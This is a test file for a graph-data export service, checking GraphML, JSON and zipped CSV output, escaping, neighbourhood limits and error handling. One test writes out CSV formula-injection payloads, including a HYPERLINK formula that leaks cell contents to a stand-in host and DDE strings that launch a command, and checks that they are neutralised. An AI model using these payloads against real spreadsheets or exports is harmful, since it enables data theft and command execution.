import { SaxesParser } from 'saxes';
import { parse as parseCsv } from 'csv-parse/sync';
import yauzl from 'yauzl';
import { startTestService, TestService } from '../support/testService';
import { runFixture } from '../support/cypherFixture';

// Texts a careless exporter breaks: separators and quotes for CSV, markup characters for XML,
// a control character XML 1.0 cannot carry at all (it must be dropped, not break the file).
const TRICKY = {
  name: 'Test “Quoting” Partner, Ltd. <&>',
  aliases: ['Q, "the quoter"', 'Qüote'],
  description: 'He said "yes", then\nleft; tab\there & <b>bold</b> it’s\u0001 done',
  excerpt: 'a "quoted", multi-line\r\nexcerpt',
};
const TRICKY_DESCRIPTION_IN_XML = TRICKY.description.replace('\u0001', '');

let t: TestService;

beforeAll(async () => {
  t = await startTestService();
  await runFixture(t.db, 'delete-test-entities');
  await runFixture(t.db, 'create-export-test-entity', TRICKY);
});

afterAll(async () => {
  await runFixture(t.db, 'delete-test-entities');
  await runFixture(t.db, 'delete-generated');
  await t.stop();
});

interface Download {
  status: number;
  headers: Headers;
  body: Buffer;
}

async function download(query: string): Promise<Download> {
  const res = await fetch(`${t.baseUrl}/export${query}`);
  return { status: res.status, headers: res.headers, body: Buffer.from(await res.arrayBuffer()) };
}

async function graphCounts(): Promise<{ nodes: number; relationships: number }> {
  const [row] = await runFixture(t.db, 'graph-counts');
  return { nodes: Number(row.nodes), relationships: Number(row.relationships) };
}

interface GraphmlElement {
  attributes: Record<string, string>;
  data: Record<string, string>;
}

/** Parses GraphML with a strict XML 1.0 parser (saxes throws on anything not well-formed). */
function parseGraphml(xml: string) {
  const keys: Record<string, string>[] = [];
  const nodes: GraphmlElement[] = [];
  const edges: GraphmlElement[] = [];
  let graph: Record<string, string> = {};
  let current: GraphmlElement | undefined;
  let dataKey: string | undefined;
  let text = '';
  const parser = new SaxesParser({ xmlns: true });
  parser.on('opentag', (tag) => {
    const attributes: Record<string, string> = {};
    for (const [name, attr] of Object.entries(tag.attributes)) attributes[name] = typeof attr === 'string' ? attr : attr.value;
    if (tag.local === 'key') keys.push(attributes);
    if (tag.local === 'graph') graph = attributes;
    if (tag.local === 'node' || tag.local === 'edge') {
      current = { attributes, data: {} };
      (tag.local === 'node' ? nodes : edges).push(current);
    }
    if (tag.local === 'data') {
      dataKey = attributes.key;
      text = '';
    }
  });
  parser.on('text', (chunk) => {
    if (dataKey) text += chunk;
  });
  parser.on('closetag', (tag) => {
    if (tag.local === 'data' && current && dataKey) current.data[dataKey] = text;
    if (tag.local === 'data') dataKey = undefined;
  });
  parser.write(xml).close();
  return { keys, graph, nodes, edges };
}

function unzip(buffer: Buffer): Promise<Record<string, string>> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(buffer, { lazyEntries: true }, (error, zip) => {
      if (error || !zip) return reject(error);
      const files: Record<string, string> = {};
      zip.on('error', reject);
      zip.on('end', () => resolve(files));
      zip.on('entry', (entry: yauzl.Entry) => {
        zip.openReadStream(entry, (err, stream) => {
          if (err || !stream) return reject(err);
          const chunks: Buffer[] = [];
          stream.on('data', (c: Buffer) => chunks.push(c));
          stream.on('end', () => {
            files[entry.fileName] = Buffer.concat(chunks).toString('utf8');
            zip.readEntry();
          });
        });
      });
      zip.readEntry();
    });
  });
}

interface JsonExport {
  nodes: { id: string; kind: string; labels: string[]; properties: Record<string, unknown>; evidence: { sourceId: string; excerpt: string }[] }[];
  relationships: { type: string; from: string; to: string; basis: string; evidence: { sourceId: string; excerpt: string }[] }[];
}

async function jsonExport(query: string): Promise<{ res: Download; graph: JsonExport }> {
  const res = await download(query);
  expect(res.status).toBe(200);
  return { res, graph: JSON.parse(res.body.toString('utf8')) as JsonExport };
}

test('Export: GraphML is well-formed XML holding every entity and relationship, with names and escapes intact', async () => {
  const counts = await graphCounts();
  const res = await download('?format=graphml');
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toMatch(/^application\/graphml\+xml/);
  expect(res.headers.get('content-disposition')).toBe('attachment; filename="scn-graph.graphml"');

  const { keys, graph, nodes, edges } = parseGraphml(res.body.toString('utf8'));
  expect(graph.edgedefault).toBe('directed');
  const nodeKeys = keys.filter((k) => k.for === 'node').map((k) => k['attr.name']);
  expect(nodeKeys).toEqual(expect.arrayContaining(['id', 'kind', 'name', 'aliases', 'description', 'date', 'status', 'isoCode', 'evidence']));
  const edgeKeys = keys.filter((k) => k.for === 'edge').map((k) => k['attr.name']);
  expect(edgeKeys).toEqual(expect.arrayContaining(['label', 'type', 'basis', 'evidence']));
  expect(nodes).toHaveLength(counts.nodes);
  expect(edges).toHaveLength(counts.relationships);

  const byId = new Map(nodes.map((n) => [n.attributes.id, n.data]));
  for (const edge of edges) {
    expect(byId.has(edge.attributes.source)).toBe(true);
    expect(byId.has(edge.attributes.target)).toBe(true);
  }
  expect(byId.get('city:durres')?.n_name).toBe('Durrës');
  expect(byId.get('source:scn-western-balkans-workshop-durres')?.n_name).toContain('Practitioners’ Workshop in Durrës');
  expect(byId.get('country:albania')?.n_isoCode).toBe('AL');

  const tricky = byId.get('partner:test-export-quoting');
  expect(tricky?.n_name).toBe(TRICKY.name);
  expect(tricky?.n_aliases).toBe(TRICKY.aliases.join(' | '));
  expect(tricky?.n_description).toBe(TRICKY_DESCRIPTION_IN_XML);
  expect(tricky?.n_evidence).toBe(TRICKY.excerpt);

  const locatedIn = edges.find((e) => e.attributes.source === 'city:durres' && e.data.e_type === 'LOCATED_IN');
  expect(locatedIn?.attributes.target).toBe('country:albania');
  expect(locatedIn?.data.e_label).toBe('LOCATED_IN');
});

test('Export: JSON round-trips the counts and carries evidence excerpts', async () => {
  const counts = await graphCounts();
  const { res, graph } = await jsonExport('?format=json');
  expect(res.headers.get('content-type')).toMatch(/^application\/json/);
  expect(graph.nodes).toHaveLength(counts.nodes);
  expect(graph.relationships).toHaveLength(counts.relationships);

  const durres = graph.nodes.find((n) => n.id === 'city:durres');
  expect(durres).toMatchObject({ kind: 'City', labels: ['City', 'Entity'], properties: { name: 'Durrës' } });
  const workshop = graph.nodes.find((n) => n.id === 'workshop:western-balkans-durres-2017');
  expect(workshop?.evidence.length).toBeGreaterThan(0);
  expect(workshop?.evidence[0]).toEqual({ sourceId: 'source:scn-western-balkans-workshop-durres', kind: 'EXCERPT', excerpt: expect.any(String), statement: null, locator: null });

  const ids = new Set(graph.nodes.map((n) => n.id));
  for (const rel of graph.relationships) {
    expect(ids.has(rel.from) && ids.has(rel.to)).toBe(true);
  }
  const heldIn = graph.relationships.find((r) => r.from === 'workshop:western-balkans-durres-2017' && r.type === 'HELD_IN');
  expect(heldIn).toMatchObject({ to: 'city:durres', basis: 'SOURCE' });
  expect(heldIn?.evidence[0].excerpt).toContain('Durrës');

  const tricky = graph.nodes.find((n) => n.id === 'partner:test-export-quoting');
  expect(tricky?.properties).toMatchObject({ name: TRICKY.name, aliases: TRICKY.aliases, description: TRICKY.description });
  expect(tricky?.evidence).toEqual([{ sourceId: 'source:scn-western-balkans-workshop-durres', kind: 'EXCERPT', excerpt: TRICKY.excerpt, statement: null, locator: null }]);
});

test('Export: CSV zip unpacks into nodes.csv and relationships.csv with one row per entity and relationship, quoted per RFC 4180', async () => {
  const counts = await graphCounts();
  const res = await download('?format=csv');
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toBe('application/zip');
  expect(res.headers.get('content-disposition')).toBe('attachment; filename="scn-graph-csv.zip"');

  const files = await unzip(res.body);
  expect(Object.keys(files).sort()).toEqual(['nodes.csv', 'relationships.csv']);
  const nodes = parseCsv(files['nodes.csv'], { columns: true }) as Record<string, string>[];
  const relationships = parseCsv(files['relationships.csv'], { columns: true }) as Record<string, string>[];
  expect(nodes).toHaveLength(counts.nodes);
  expect(relationships).toHaveLength(counts.relationships);
  expect(files['nodes.csv'].split('\r\n')[0]).toBe('id,kind,name,aliases,description,date,status,isoCode,evidence,evidenceSources');
  expect(files['relationships.csv'].split('\r\n')[0]).toBe('from,to,type,basis,evidence,evidenceSources,joined,asOf,role,startDate,endDate,part');

  expect(nodes.find((n) => n.id === 'city:durres')).toMatchObject({ kind: 'City', name: 'Durrës' });
  const tricky = nodes.find((n) => n.id === 'partner:test-export-quoting');
  expect(tricky).toMatchObject({ name: TRICKY.name, aliases: TRICKY.aliases.join(' | '), description: TRICKY.description, evidence: TRICKY.excerpt });
  // The raw text: the field is wrapped in quotes and its quotes are doubled.
  expect(files['nodes.csv']).toContain('"He said ""yes"", then\nleft;');
  expect(relationships.find((r) => r.from === 'partner:test-export-quoting')).toMatchObject({ to: 'network:scn', type: 'PARTNER_OF', basis: 'SOURCE', evidence: TRICKY.excerpt });
});

test('Export: CSV cells starting like a formula (= + - @ tab CR) come out behind a single quote, quoted, and parse back to that text', async () => {
  // One partner per dangerous first character, in the name, an alias, the description and the evidence (nodes.csv
  // and relationships.csv); -2+3 would be a number to a spreadsheet, and none of the columns holds numbers.
  const starts = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
  const partners = starts.map((text, i) => ({ id: `partner:test-formula-${i}`, name: text, aliases: [text, 'plain'], description: text, excerpt: text }));
  // afterAll removes them with the other test entities.
  await runFixture(t.db, 'create-test-partners', { partners });
  const files = await unzip((await download('?format=csv')).body);
  const nodes = parseCsv(files['nodes.csv'], { columns: true }) as Record<string, string>[];
  const relationships = parseCsv(files['relationships.csv'], { columns: true }) as Record<string, string>[];
  for (const { id, name } of partners) {
    const neutralised = `'${name}`;
    expect(nodes.find((n) => n.id === id)).toMatchObject({ name: neutralised, aliases: `${neutralised} | plain`, description: neutralised, evidence: neutralised });
    expect(relationships.find((r) => r.from === id)).toMatchObject({ to: 'network:scn', evidence: neutralised });
  }
  // The raw text: the quote comes first inside the field's double quotes, so a spreadsheet shows the cell as text.
  expect(files['nodes.csv']).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",`);
  // Values that merely contain such characters, and ids, dates and codes, are untouched.
  expect(nodes.find((n) => n.id === 'partner:test-export-quoting')?.name).toBe(TRICKY.name);
  expect(nodes.find((n) => n.id === 'country:albania')).toMatchObject({ isoCode: 'AL' });
  expect(nodes.every((n) => !n.id.startsWith("'") && !n.date.startsWith("'"))).toBe(true);
});

test('Export: a neighbourhood holds the entities within depth hops and the relationships among them', async () => {
  const one = await jsonExport('?format=json&id=workshop:western-balkans-durres-2017&depth=1');
  const depth1 = new Set(one.graph.nodes.map((n) => n.id));
  expect(one.graph.nodes[0].id).toBe('workshop:western-balkans-durres-2017');
  for (const id of ['workshop:western-balkans-durres-2017', 'partner:icma', 'city:durres']) expect(depth1.has(id)).toBe(true);
  expect(depth1.has('city:aarhus')).toBe(false);
  expect(one.res.headers.get('x-export-truncated')).toBeNull();
  for (const rel of one.graph.relationships) expect(depth1.has(rel.from) && depth1.has(rel.to)).toBe(true);
  expect(one.graph.relationships).toEqual(expect.arrayContaining([expect.objectContaining({ type: 'HELD_IN', from: 'workshop:western-balkans-durres-2017', to: 'city:durres' })]));

  const two = await jsonExport('?format=json&id=workshop:western-balkans-durres-2017&depth=2');
  const depth2 = new Set(two.graph.nodes.map((n) => n.id));
  for (const id of depth1) expect(depth2.has(id)).toBe(true);
  expect(depth2.size).toBeGreaterThan(depth1.size);
  expect(depth2.has('country:albania')).toBe(true);
  expect(two.graph.relationships.length).toBeGreaterThan(one.graph.relationships.length);

  // Depth defaults to 1, and the other formats take the same scope.
  const graphml = parseGraphml((await download('?format=graphml&id=workshop:western-balkans-durres-2017')).body.toString('utf8'));
  expect(new Set(graphml.nodes.map((n) => n.attributes.id))).toEqual(depth1);
  expect(graphml.edges).toHaveLength(one.graph.relationships.length);
});

const NEIGHBOURHOOD_QUERY = `
  query ($id: ID!, $depth: Int, $limit: Int) {
    neighborhood(id: $id, depth: $depth, limit: $limit) { nodes { id } relationships { type from { id } to { id } } truncated }
  }
`;

interface NeighbourhoodJson {
  nodes: { id: string }[];
  relationships: { type: string; from: { id: string }; to: { id: string } }[];
  truncated: boolean;
}

test('Export: a neighbourhood export holds the same entities, in the same order, and relationships as the neighborhood query', async () => {
  const cases = [
    { id: 'workshop:western-balkans-durres-2017', depth: 1, limit: 1000 },
    { id: 'workshop:western-balkans-durres-2017', depth: 2, limit: 1000 },
    { id: 'workshop:western-balkans-durres-2017', depth: 3, limit: 1000 },
    { id: 'workshop:western-balkans-durres-2017', depth: 2, limit: 30 },
    { id: 'city:durres', depth: 3, limit: 12 },
    { id: 'network:scn', depth: 1, limit: 1 },
  ];
  let truncatedCases = 0;
  for (const { id, depth, limit } of cases) {
    const { neighborhood } = await t.client.request<{ neighborhood: NeighbourhoodJson }>(NEIGHBOURHOOD_QUERY, { id, depth, limit });
    const exported = await jsonExport(`?format=json&id=${encodeURIComponent(id)}&depth=${depth}&limit=${limit}`);
    const what = `${id} at depth ${depth}, limit ${limit}`;
    expect([what, exported.graph.nodes.map((n) => n.id)]).toEqual([what, neighborhood.nodes.map((n) => n.id)]);
    const key = (r: { type: string; from: string; to: string }) => `${r.type} ${r.from} ${r.to}`;
    expect([what, exported.graph.relationships.map(key)]).toEqual([
      what,
      neighborhood.relationships.map((r) => key({ type: r.type, from: r.from.id, to: r.to.id })),
    ]);
    expect([what, exported.res.headers.get('x-export-truncated') === 'true']).toEqual([what, neighborhood.truncated]);
    if (neighborhood.truncated) truncatedCases += 1;
    expect(neighborhood.nodes.length).toBeLessThanOrEqual(limit);
  }
  // The cases cover both a neighbourhood the limit cuts and whole ones.
  expect(truncatedCases).toBeGreaterThanOrEqual(2);
  expect(truncatedCases).toBeLessThan(cases.length);
});

test('Export: bad format, depth or limit out of range and unknown ids are refused with a JSON error naming the argument', async () => {
  const format = await download('?format=xlsx');
  expect(format.status).toBe(400);
  expect(JSON.parse(format.body.toString())).toEqual({ error: { code: 'BAD_USER_INPUT', argument: 'format', message: expect.stringMatching(/format.*graphml, json, csv/) } });
  expect((await download('')).status).toBe(400);

  const depth = await download('?format=json&id=city:durres&depth=9');
  expect(depth.status).toBe(400);
  const depthError = JSON.parse(depth.body.toString()).error;
  expect(depthError).toMatchObject({ code: 'BAD_USER_INPUT', argument: 'depth', maximum: 3 });
  expect(depthError.message).toMatch(/depth.*3/);
  expect((await download('?format=json&id=city:durres&depth=0')).status).toBe(400);
  const limit = await download('?format=json&id=city:durres&limit=5001');
  expect(limit.status).toBe(400);
  expect(JSON.parse(limit.body.toString()).error).toMatchObject({ code: 'BAD_USER_INPUT', argument: 'limit', maximum: 5000 });
  for (const bad of ['&limit=0', '&limit=ten', '&limit=-3']) expect((await download(`?format=json&id=city:durres${bad}`)).status).toBe(400);
  expect(JSON.parse((await download('?format=json&limit=10')).body.toString()).error).toMatchObject({ argument: 'limit' });

  const missing = await download('?format=graphml&id=city:atlantis');
  expect(missing.status).toBe(404);
  expect(missing.headers.get('content-type')).toMatch(/^application\/json/);
  expect(missing.headers.get('content-disposition')).toBeNull();
  expect(JSON.parse(missing.body.toString())).toMatchObject({ error: { code: 'NOT_FOUND', argument: 'id' } });
});

describe('with a generated graph of about 55,000 relationships', () => {
  beforeAll(async () => {
    await runFixture(t.db, 'delete-generated');
    await runFixture(t.db, 'generate-graph', { regions: 2, countries: 20, cities: 6000, themes: 10 });
  });

  test('Export: a neighbourhood past 5,000 entities keeps the nearest 5,000 and says it was truncated', async () => {
    const { res, graph } = await jsonExport('?format=json&id=region:gen-1&depth=3');
    expect(res.headers.get('x-export-truncated')).toBe('true');
    expect(graph.nodes).toHaveLength(5000);
    expect(graph.nodes[0].id).toBe('region:gen-1');
    // Nearest first: every country and city of the region (depth 1 and 2) is in, the cut falls among the workshops.
    expect(graph.nodes.filter((n) => n.kind === 'City')).toHaveLength(3000);

    const smaller = await download('?format=json&id=region:gen-1&depth=2');
    expect(smaller.headers.get('x-export-truncated')).toBeNull();
  });

  test('Export: a client that disconnects mid-download stops the Neo4j read', async () => {
    const relationshipReadOpen = async () => {
      const rows = await t.db.autoCommit('SHOW TRANSACTIONS YIELD currentQuery RETURN currentQuery');
      return rows.some((r) => String(r.currentQuery).includes('AS from, b.id AS to'));
    };
    const waitUntil = async (want: boolean) => {
      const deadline = Date.now() + 10_000;
      while ((await relationshipReadOpen()) !== want && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
      return relationshipReadOpen();
    };
    let relationshipsRequested = false;
    const off = t.db.onQuery((name) => {
      if (name === 'export-relationships') relationshipsRequested = true;
    });
    const aborter = new AbortController();
    try {
      const res = await fetch(`${t.baseUrl}/export?format=graphml`, { signal: aborter.signal });
      const reader = res.body!.getReader();
      // Read until the relationships are being read from Neo4j, then stop reading: once the socket buffers
      // are full the export waits for 'drain' and its Neo4j read stays open.
      while (!relationshipsRequested) {
        const { done } = await reader.read();
        expect(done).toBe(false);
      }
      expect(await waitUntil(true)).toBe(true);
      aborter.abort();
      expect(await waitUntil(false)).toBe(false);
    } finally {
      off();
    }
    // The service carries on.
    expect((await fetch(`${t.baseUrl}/health`)).status).toBe(200);
  });
});
